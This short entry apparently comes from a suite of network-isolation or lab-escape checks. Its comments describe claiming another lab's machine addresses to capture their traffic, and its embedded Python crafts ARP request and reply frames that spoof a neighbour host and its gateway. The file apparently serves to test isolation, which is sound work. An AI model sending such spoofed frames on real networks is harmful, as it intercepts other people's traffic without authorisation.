# Category: other labs' networks (ARP, routing, VXLAN, IPv6)
# Escape: claims the addresses of another lab's machines, and gets their traffic.
# Sign: neighbour
packets <<'PYTHON'
for claimed in (env["NEIGHBOUR"], env["NEIGHBOUR_GATEWAY"]):
    for operation in (1, 2):
        frames(struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, b"\2\0\0\0\0\7", address(claimed), b"\xff" * 6, address(claimed)) + token, 0x0806)
PYTHON
